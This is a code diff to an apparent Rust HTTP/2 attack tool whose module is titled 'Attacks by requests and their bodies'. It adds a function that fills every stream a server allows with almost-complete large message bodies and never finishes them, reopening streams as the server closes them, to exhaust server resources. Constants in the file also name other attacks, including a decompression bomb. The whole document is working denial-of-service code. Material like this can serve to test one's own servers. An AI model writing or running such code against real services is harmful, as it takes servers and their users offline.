@@ -1,5 +1,6 @@
 //! Attacks by requests and their bodies.
 
+use std::collections::BTreeMap;
 use std::io;
 use std::time::Duration;
 
@@ -22,6 +23,10 @@ const WHILE: Duration = Duration::from_millis(50);
 const CRUMBS: usize = 200;
 /// Unread answers on one connection, where the announced number of streams is not kept to.
 const GREEDY: usize = 1_500;
+/// The length of a message that is not finished, in bytes. Servers take 64 KiB by default.
+const LARGE: usize = (64 << 10) - 16;
+/// The bytes that are sent of its body.
+const UNFINISHED: usize = 65_400;
 /// How large a bomb is when it is unpacked.
 const BOMB: usize = 48 << 20;
 
@@ -72,6 +77,29 @@ pub(super) async fn claimed_lengths(target: &Target) -> io::Result<()> {
             number += 1;
         }
         connection.attend(WHILE).await?;
+    }
+}
+
+/// Streams with all of a large message but its end, as many as the server takes, and new ones for those that it ends.
+pub(super) async fn unfinished_bodies(target: &Target) -> io::Result<()> {
+    let mut connection = Connection::open(target, &[]).await?;
+    let verify = wire::headers(VERIFY, Some(&target.reader), &[]);
+    let mut message = wire::message(&[0; LARGE]);
+    message.truncate(UNFINISHED);
+    let mut sent: BTreeMap<u32, usize> = BTreeMap::new();
+    loop {
+        sent.retain(|stream, _| connection.is_open(*stream));
+        while connection.room() > 0 {
+            sent.insert(connection.request(&verify, false).await?, 0);
+        }
+        let mut more = 0;
+        for (stream, sent) in &mut sent {
+            let rest = message.get(*sent..).unwrap_or_default();
+            let data = connection.data(*stream, rest, false).await?;
+            *sent += data;
+            more += data;
+        }
+        connection.attend(if more == 0 { WHILE } else { Duration::ZERO }).await?;
     }
 }
 
